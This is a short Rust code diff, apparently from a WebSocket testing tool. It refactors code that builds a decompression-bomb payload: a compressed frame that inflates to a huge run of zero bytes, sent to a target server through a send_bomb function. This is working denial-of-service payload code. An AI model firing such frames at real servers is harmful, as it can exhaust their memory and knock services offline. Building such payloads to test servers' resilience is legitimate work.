@@ -176,9 +176,10 @@ pub(crate) async fn send_bomb(target: &Target, wire: &[u8]) -> Result<(u16, Dura
     answer
 }
 
-/// One masked (all-zero key) binary frame with RSV1 set: `zeros` zero bytes
-/// deflated, sync-flushed, the flush's tail stripped (RFC 7692).
-pub(crate) fn bomb_frame(zeros: usize) -> Vec<u8> {
+/// Raw deflate of `zeros` zero bytes, sync-flushed, the flush's 4-byte tail
+/// stripped as RFC 7692 sends a message. Made in 1 MiB chunks, so only the
+/// compressed bytes (about a thousandth of `zeros`) are held.
+pub fn deflate_bomb(zeros: usize) -> Vec<u8> {
     use flate2::{Compress, Compression, FlushCompress};
     let mut compress = Compress::new(Compression::best(), false);
     let chunk = vec![0u8; 1 << 20];
@@ -206,7 +207,15 @@ pub(crate) fn bomb_frame(zeros: usize) -> Vec<u8> {
             break;
         }
     }
+    // RFC 7692 §7.2.1: the sender removes the sync flush's 00 00 ff ff.
     deflated.truncate(deflated.len().saturating_sub(4));
+    deflated
+}
+
+/// One masked (all-zero key) binary frame with RSV1 set: `zeros` zero bytes
+/// deflated ([`deflate_bomb`]).
+pub(crate) fn bomb_frame(zeros: usize) -> Vec<u8> {
+    let deflated = deflate_bomb(zeros);
     let mut frame = vec![0xc2, 0x80 | 127];
     frame.extend((deflated.len() as u64).to_be_bytes());
     frame.extend([0; 4]);
